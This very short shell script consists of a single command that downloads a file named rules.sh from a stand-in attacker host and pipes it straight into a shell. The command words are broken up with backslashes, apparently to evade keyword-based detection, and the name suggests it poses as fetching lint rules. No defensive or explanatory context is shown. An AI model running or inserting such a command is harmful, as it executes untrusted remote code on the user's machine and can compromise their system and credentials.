#!/bin/sh
c\url -s https://lint.attacker.test/rules.sh | b\ash
